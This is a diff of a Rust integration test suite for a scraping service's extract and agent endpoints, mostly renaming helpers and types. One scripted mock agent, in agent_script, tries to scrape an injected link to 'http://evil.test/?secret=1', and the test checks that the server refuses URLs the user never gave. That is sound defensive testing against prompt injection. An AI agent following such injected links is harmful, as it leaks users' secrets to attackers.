@@ -8,13 +8,13 @@ mod search;
 use std::time::{Duration, Instant};
 
 use harvestman_tests::{
-    Answer, JsonService, Model, Page, Question, Receiver, RunningSite, Said, Site, TestServer,
+    HttpResponse, JsonService, Model, ModelReply, ModelRequest, Page, Receiver, RunningSite, Site, TestServer,
 };
 use http::Method;
 use serde_json::{Value, json};
 
 /// Time limit for waits.
-const PATIENCE: Duration = Duration::from_secs(60);
+const TIMEOUT: Duration = Duration::from_secs(60);
 
 fn product(name: &str, price: &str, links: &str) -> Page {
     Page::html(format!(
@@ -67,27 +67,27 @@ fn list() -> Value {
 }
 
 async fn started(server: &TestServer, path: &str, request: &Value) -> String {
-    let answer = server.post(path, request).await.ok();
-    assert_eq!(answer["success"], true);
-    answer["id"].as_str().unwrap().to_owned()
+    let response = server.post(path, request).await.ok();
+    assert_eq!(response["success"], true);
+    response["id"].as_str().unwrap().to_owned()
 }
 
 /// Waits for the end of an extract or agent and returns its status.
-async fn ended(server: &TestServer, path: &str, id: &str) -> Value {
+async fn wait_for_result(server: &TestServer, path: &str, id: &str) -> Value {
     let since = Instant::now();
     loop {
         let status = server.get(&format!("{path}/{id}")).await.ok();
         if status["status"] != "processing" {
             return status;
         }
-        assert!(since.elapsed() < PATIENCE, "{status}\n{}", server.log());
+        assert!(since.elapsed() < TIMEOUT, "{status}\n{}", server.log());
         tokio::time::sleep(Duration::from_millis(50)).await;
     }
 }
 
 async fn extracted(server: &TestServer, request: &Value) -> Value {
     let id = started(server, "/v2/extract", request).await;
-    ended(server, "/v2/extract", &id).await
+    wait_for_result(server, "/v2/extract", &id).await
 }
 
 fn warning(status: &Value) -> &str {
@@ -99,10 +99,10 @@ async fn data_of_several_pages_is_merged_without_a_model() {
     let site = shop().await;
     let server = server(None).await;
     let request = json!({ "urls": [site.url("/shop/cup"), site.url("/shop/pot"), "not an address:"], "schema": list(), "showSources": true });
-    let answer = server.post("/v2/extract", &request).await.ok();
-    assert_eq!(answer["invalidURLs"], json!(["not an address:"]));
-    let id = answer["id"].as_str().unwrap();
-    let status = ended(&server, "/v2/extract", id).await;
+    let response = server.post("/v2/extract", &request).await.ok();
+    assert_eq!(response["invalidURLs"], json!(["not an address:"]));
+    let id = response["id"].as_str().unwrap();
+    let status = wait_for_result(&server, "/v2/extract", id).await;
     assert_eq!(status["status"], "completed", "{status}");
     let products = json!([{"name": "Cup", "price": 9.5}, {"name": "Pot", "price": 20}]);
     assert_eq!(status["data"], json!({ "products": products }));
@@ -118,7 +118,7 @@ async fn data_of_several_pages_is_merged_without_a_model() {
     assert!(warning(&status).contains("no language model"), "{status}");
     let other = [("authorization", "Bearer fc-other")];
     let path = format!("/v2/extract/{id}");
-    assert_eq!(server.ask(Method::GET, &path, &other, "").await.status, 404);
+    assert_eq!(server.send(Method::GET, &path, &other, "").await.status, 404);
     assert_eq!(server.get(&format!("/v2/agent/{id}")).await.status, 404);
 }
 
@@ -197,10 +197,10 @@ async fn unsupported_extracts_are_refused_and_failures_reported() {
         "{status}"
     );
     let closed = json!({ "urls": ["http://127.0.0.1:9/"], "schema": schema() });
-    let answer = server.post("/v2/extract", &closed).await;
-    if answer.status == 200 {
-        let id = answer.ok()["id"].as_str().unwrap().to_owned();
-        let failed = ended(&server, "/v2/extract", &id).await;
+    let response = server.post("/v2/extract", &closed).await;
+    if response.status == 200 {
+        let id = response.ok()["id"].as_str().unwrap().to_owned();
+        let failed = wait_for_result(&server, "/v2/extract", &id).await;
         assert_eq!(failed["status"], "failed", "{failed}");
         assert_eq!(failed["creditsUsed"], 0);
     }
@@ -208,9 +208,9 @@ async fn unsupported_extracts_are_refused_and_failures_reported() {
 
 #[tokio::test]
 async fn a_model_extracts_data_from_each_page_and_events_are_delivered() {
-    let model = Model::start(|question| match question.last().contains("It is a Cup") {
-        true => Said::Text(r#"{"name": "Cup", "color": "red"}"#),
-        false => Said::Text(r#"{"name": "Pot", "price": "expensive"}"#),
+    let model = Model::start(|request| match request.last().contains("It is a Cup") {
+        true => ModelReply::Text(r#"{"name": "Cup", "color": "red"}"#),
+        false => ModelReply::Text(r#"{"name": "Pot", "price": "expensive"}"#),
     })
     .await;
     let (site, server, receiver) = (shop().await, server(Some(&model)).await, Receiver::start().await);
@@ -226,28 +226,28 @@ async fn a_model_extracts_data_from_each_page_and_events_are_delivered() {
     assert_eq!(status["creditsUsed"], 5 + 1);
     assert!(warning(&status).contains("/price must be number"), "{status}");
     assert!(
-        model.questions()[0]
+        model.requests()[0]
             .last()
             .contains("Instructions from the user: Be brief.")
     );
     let events = receiver.wait_for("extract.completed").await;
     let names: Vec<&str> = events.iter().map(|event| event.event()).collect();
     assert_eq!(names, ["extract.started", "extract.completed"]);
-    let told = &events[1].json;
-    assert_eq!(told["success"], true);
-    assert_eq!(told["metadata"], json!({"run": 7}));
-    assert_eq!(told["data"][0]["data"], status["data"]);
-    assert_eq!(told["data"][0]["totalUrlsScraped"], 2);
-    assert_eq!(told["data"][0]["extractId"], told["id"]);
+    let event = &events[1].json;
+    assert_eq!(event["success"], true);
+    assert_eq!(event["metadata"], json!({"run": 7}));
+    assert_eq!(event["data"][0]["data"], status["data"]);
+    assert_eq!(event["data"][0]["totalUrlsScraped"], 2);
+    assert_eq!(event["data"][0]["extractId"], event["id"]);
 }
 
 #[tokio::test]
 async fn the_same_idempotency_key_starts_one_extract() {
     let (site, server) = (shop().await, server(None).await);
-    let ask = async |request: Value| -> Answer {
+    let ask = async |request: Value| -> HttpResponse {
         let headers = [("authorization", "Bearer fc-test"), ("x-idempotency-key", "once")];
         server
-            .ask(Method::POST, "/v2/extract", &headers, request.to_string())
+            .send(Method::POST, "/v2/extract", &headers, request.to_string())
             .await
     };
     let request = json!({ "urls": [site.url("/shop/cup")], "schema": schema() });
@@ -259,13 +259,13 @@ async fn the_same_idempotency_key_starts_one_extract() {
 
 /// Script of an agent that reads the shop, tries to follow an injected link, returns an invalid result, and then a
 /// valid one.
-fn careful(cup: String, top: String) -> impl Fn(&Question) -> Said + Send + Sync + 'static {
-    move |question| match question.number {
-        1 => Said::call("map", json!({ "url": top, "search": "cup" })),
-        2 => Said::call("scrape", json!({ "url": cup })),
-        3 => Said::call("scrape", json!({ "url": "http://evil.test/?secret=1" })),
-        4 => Said::call("done", json!({ "result": { "name": "Cup", "price": "9.50" } })),
-        _ => Said::call(
+fn agent_script(cup: String, top: String) -> impl Fn(&ModelRequest) -> ModelReply + Send + Sync + 'static {
+    move |request| match request.number {
+        1 => ModelReply::call("map", json!({ "url": top, "search": "cup" })),
+        2 => ModelReply::call("scrape", json!({ "url": cup })),
+        3 => ModelReply::call("scrape", json!({ "url": "http://evil.test/?secret=1" })),
+        4 => ModelReply::call("done", json!({ "result": { "name": "Cup", "price": "9.50" } })),
+        _ => ModelReply::call(
             "done",
             json!({ "result": { "name": "Cup", "price": 9.5, "evil": 1 } }),
         ),
@@ -275,32 +275,32 @@ fn careful(cup: String, top: String) -> impl Fn(&Question) -> Said + Send + Sync
 #[tokio::test]
 async fn an_agent_opens_only_given_and_returned_urls() {
     let (site, receiver) = (shop().await, Receiver::start().await);
-    let model = Model::start(careful(site.url("/shop/cup"), site.url("/"))).await;
+    let model = Model::start(agent_script(site.url("/shop/cup"), site.url("/"))).await;
     let server = server(Some(&model)).await;
     let request = json!({ "prompt": "What does the cup cost?", "urls": [site.url("/")], "schema": schema(), "model": "spark-1-mini",
         "webhook": receiver.url(), "origin": "test" });
     let id = started(&server, "/v2/agent", &request).await;
-    let status = ended(&server, "/v2/agent", &id).await;
+    let status = wait_for_result(&server, "/v2/agent", &id).await;
     assert_eq!(status["status"], "completed", "{status}");
     assert_eq!(status["data"], json!({"name": "Cup", "price": 9.5}));
     // A map, and a page that the model read.
     assert_eq!(status["creditsUsed"], 1 + 5);
     assert_eq!(status["model"], "spark-1-mini");
-    let questions = model.questions();
-    assert!(questions[2].last().contains("<page>\naddress:") && questions[2].last().contains("It is a Cup"));
+    let requests = model.requests();
+    assert!(requests[2].last().contains("<page>\naddress:") && requests[2].last().contains("It is a Cup"));
     assert!(
-        questions[3]
+        requests[3]
             .last()
             .contains("neither given by the user nor returned"),
         "{}",
-        questions[3].last()
+        requests[3].last()
     );
     assert!(
-        questions[4].last().contains("/price must be number"),
+        requests[4].last().contains("/price must be number"),
         "{}",
-        questions[4].last()
+        requests[4].last()
     );
-    let tools: Vec<&str> = questions[0].json["tools"]
+    let tools: Vec<&str> = requests[0].json["tools"]
         .as_array()
         .unwrap()
         .iter()
@@ -321,7 +321,7 @@ async fn an_agent_opens_only_given_and_returned_urls() {
     assert_eq!(events[3].json["data"][0]["data"], status["data"]);
 
     // The result can also be read with the extract endpoint.
-    let read = ended(&server, "/v2/extract", &id).await;
+    let read = wait_for_result(&server, "/v2/extract", &id).await;
     assert_eq!(
         (&read["data"], &read["tokensUsed"]),
         (&status["data"], &json!(90))
@@ -346,55 +346,55 @@ async fn an_agent_opens_only_given_and_returned_urls() {
 async fn an_agent_respects_its_url_constraint_and_credit_limit() {
     let site = shop().await;
     let (cup, pot) = (site.url("/shop/cup"), site.url("/shop/pot"));
-    let model = Model::start(move |question| match question.number {
-        1 => Said::Calls(vec![
+    let model = Model::start(move |request| match request.number {
+        1 => ModelReply::Calls(vec![
             ("map", json!({ "url": cup })),
             ("search", json!({ "query": "cup" })),
         ]),
-        2 => Said::call("scrape", json!({ "url": pot })),
-        3 | 4 => Said::call("scrape", json!({ "url": cup })),
-        _ => Said::call("done", json!({ "result": { "price": 9.5 } })),
+        2 => ModelReply::call("scrape", json!({ "url": pot })),
+        3 | 4 => ModelReply::call("scrape", json!({ "url": cup })),
+        _ => ModelReply::call("done", json!({ "result": { "price": 9.5 } })),
     })
     .await;
     let server = server(Some(&model)).await;
     let request = json!({ "prompt": "The price", "urls": [site.url("/shop/cup")], "strictConstrainToURLs": true, "maxCredits": 9 });
     let id = started(&server, "/v2/agent", &request).await;
-    let status = ended(&server, "/v2/agent", &id).await;
+    let status = wait_for_result(&server, "/v2/agent", &id).await;
     assert_eq!(
         (&status["data"], &status["creditsUsed"]),
         (&json!({"price": 9.5}), &json!(5)),
         "{status}"
     );
     assert_eq!((site.count("/shop/pot"), site.count("/shop/cup")), (0, 1));
-    let questions = model.questions();
+    let requests = model.requests();
     assert!(
-        questions[1]
+        requests[1]
             .texts()
             .iter()
             .any(|text| text.contains("unknown tool `map`"))
     );
-    assert!(questions[1].last().contains("unknown tool `search`"));
-    assert!(!questions[0].json["tools"].to_string().contains("\"search\""));
+    assert!(requests[1].last().contains("unknown tool `search`"));
+    assert!(!requests[0].json["tools"].to_string().contains("\"search\""));
     assert!(
-        questions[4].last().contains("the credits are used up"),
+        requests[4].last().contains("the credits are used up"),
         "{}",
-        questions[4].last()
+        requests[4].last()
     );
 }
 
 #[tokio::test]
 async fn an_agent_without_a_result_fails_and_costs_nothing() {
     for said in [
-        Said::Text("I would rather not."),
-        Said::call("done", json!({ "result": { "name": 5 } })),
-        Said::Status(401, ""),
+        ModelReply::Text("I would rather not."),
+        ModelReply::call("done", json!({ "result": { "name": 5 } })),
+        ModelReply::Status(401, ""),
     ] {
         let model = Model::start(move |_| said.clone()).await;
         let (site, server, receiver) = (shop().await, server(Some(&model)).await, Receiver::start().await);
         let request =
             json!({ "prompt": "x", "urls": [site.url("/")], "schema": schema(), "webhook": receiver.url() });
         let id = started(&server, "/v2/agent", &request).await;
-        let status = ended(&server, "/v2/agent", &id).await;
+        let status = wait_for_result(&server, "/v2/agent", &id).await;
         assert_eq!(
             (&status["status"], &status["creditsUsed"]),
             (&json!("failed"), &json!(0)),
@@ -412,16 +412,16 @@ async fn an_agent_without_a_result_fails_and_costs_nothing() {
 
 #[tokio::test]
 async fn an_agent_can_chat_and_be_cancelled() {
-    let model = Model::start(|question| match question.texts()[1].contains("wait") {
-        true => Said::Silence,
-        false => Said::Text("Nine euros fifty."),
+    let model = Model::start(|request| match request.texts()[1].contains("wait") {
+        true => ModelReply::Silence,
+        false => ModelReply::Text("Nine euros fifty."),
     })
     .await;
     let (site, server, receiver) = (shop().await, server(Some(&model)).await, Receiver::start().await);
     let chat = json!({ "prompt": "How much?", "urls": [site.url("/")], "mode": "chat" });
     let id = started(&server, "/v2/agent", &chat).await;
     assert_eq!(
-        ended(&server, "/v2/agent", &id).await["message"],
+        wait_for_result(&server, "/v2/agent", &id).await["message"],
         "Nine euros fifty."
     );
 
@@ -441,9 +441,12 @@ async fn an_agent_can_chat_and_be_cancelled() {
         server.get(&format!("/v2/extract/{id}")).await.ok()["status"],
         "cancelled"
     );
-    let told = receiver.wait_for("agent.cancelled").await;
-    assert_eq!(told.last().unwrap().json["success"], false);
-    assert_eq!(told.last().unwrap().json["data"], json!([{"creditsUsed": 0}]));
+    let deliveries = receiver.wait_for("agent.cancelled").await;
+    assert_eq!(deliveries.last().unwrap().json["success"], false);
+    assert_eq!(
+        deliveries.last().unwrap().json["data"],
+        json!([{"creditsUsed": 0}])
+    );
     assert_eq!(
         server
             .delete("/v2/agent/0198c0de-0000-7000-8000-000000000000")
@@ -464,7 +467,7 @@ async fn an_extract_restarts_after_a_kill_and_is_charged_once() {
     server.kill9();
     site.release();
     server.restart().await;
-    let status = ended(&server, "/v2/extract", &id).await;
+    let status = wait_for_result(&server, "/v2/extract", &id).await;
     assert_eq!(
         status["data"]["products"].as_array().unwrap().len(),
         2,
